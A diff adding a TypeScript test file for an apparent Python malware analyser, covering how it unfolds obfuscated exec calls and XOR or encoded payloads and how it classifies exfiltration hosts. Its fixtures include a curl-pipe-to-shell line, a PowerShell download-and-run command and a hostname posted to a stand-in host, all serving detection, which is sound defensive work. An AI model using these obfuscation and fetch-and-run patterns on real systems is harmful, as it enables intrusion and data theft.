@@ -1,0 +1,69 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { FactExtractor } from '../../../src/analysis/python/facts.js';
+import { copyTree } from '../../../src/analysis/python/lnode.js';
+import { parsePython, pythonParser } from '../../../src/analysis/python/parser.js';
+import { base85Decode, base32Decode, fernetDecrypt, rot13 } from '../../../src/analysis/python/decode.js';
+import { classifyHost, makeDest } from '../../../src/analysis/python/values.js';
+
+async function facts(src: string) {
+  const parser = await pythonParser();
+  const tree = parsePython(parser, src, 2000);
+  assert.ok(tree);
+  const ex = new FactExtractor({ parser, maxDecodeDepth: 6, maxDecodedBytes: 1 << 20, deadline: performance.now() + 5000, parseBudgetMs: 1000 }, 'm');
+  ex.walkModule(copyTree(tree, src));
+  tree.delete();
+  return ex.facts;
+}
+
+test('reversed strings, chr maps and getattr(__builtins__) fold to the hidden call', async () => {
+  const f = await facts(
+    "import os\nf = getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))\nf('import os; os.system(\"id\")')\nu = 'dilavni.tset//:sptth'[::-1]\n",
+  );
+  assert.equal(f.execs[0]?.via, 'exec');
+  assert.ok(f.commands.some((c) => c.cmd === 'id' && c.line === 3 && c.decoded !== undefined));
+  assert.ok(f.strings.some((s) => s.s === 'https://test.invalid' && s.dec));
+});
+
+test('an XOR decoding loop is unrolled and the payload analysed at the exec line', async () => {
+  const key = 'k';
+  const payload = "import os; os.system('curl https://x.invalid/a | sh')";
+  const enc = [...payload].map((c) => c.charCodeAt(0) ^ key.charCodeAt(0));
+  const f = await facts(`data = ${JSON.stringify(enc)}\nout = ''\nfor b in data:\n    out += chr(b ^ ord('${key}'))\nexec(out)\n`);
+  const cmd = f.commands.find((c) => c.cmd.includes('curl'));
+  assert.equal(cmd?.line, 5);
+});
+
+test('python 2 syntax parses without errors; broken code reports a parse error line', async () => {
+  assert.equal((await facts("print 'hi'\nexec code\n")).parseErrors, undefined);
+  assert.equal((await facts('x = 1\ndef f(:\n  pass\n')).parseErrors?.line, 2);
+});
+
+test('values flow through helper functions and containers into sinks', async () => {
+  const f = await facts(
+    "import socket, requests\ndef info():\n    return {'h': socket.gethostname()}\ndef send(d):\n    requests.post('https://c.invalid', json=d)\nsend(info())\n",
+  );
+  assert.deepEqual(f.functions.find((s) => s.name === 'send')?.paramSinks.has(0), true);
+  assert.ok(f.pending.some((p) => p.callee === 'send' && (p.argSources[0] ?? []).includes('recon:hostname')));
+});
+
+test('PowerShell -EncodedCommand payloads are decoded', async () => {
+  const inner = Buffer.from('iwr https://x.invalid/a.exe -OutFile a.exe; Start-Process a.exe', 'utf16le').toString('base64');
+  const f = await facts(`import subprocess\nsubprocess.Popen('powershell -EncodedCommand ${inner}')\n`);
+  assert.ok(f.commands.some((c) => c.fromDecoded && c.cmd.startsWith('iwr')));
+});
+
+test('decoders: base32, base85, rot13, fernet', () => {
+  assert.equal(base32Decode('NBSWY3DP', 100), 'hello');
+  assert.equal(base85Decode('Xk~0{Zy', 100), 'hello');
+  assert.equal(rot13('uryyb'), 'hello');
+  assert.equal(fernetDecrypt('AAAA', 'gAAAA', 100), undefined);
+});
+
+test('destinations are classified; data in leading DNS labels keeps the fixed suffix', () => {
+  assert.equal(classifyHost('abc.oastify.com'), 'oob');
+  assert.equal(classifyHost('sts.amazonaws.com'), 'vendor');
+  assert.equal(classifyHost('203.0.113.9'), 'ip');
+  assert.equal(classifyHost('discord.com'), 'messenger');
+  assert.equal(makeDest('\uFFFD.probe.interact.sh', false).cls, 'oob');
+});
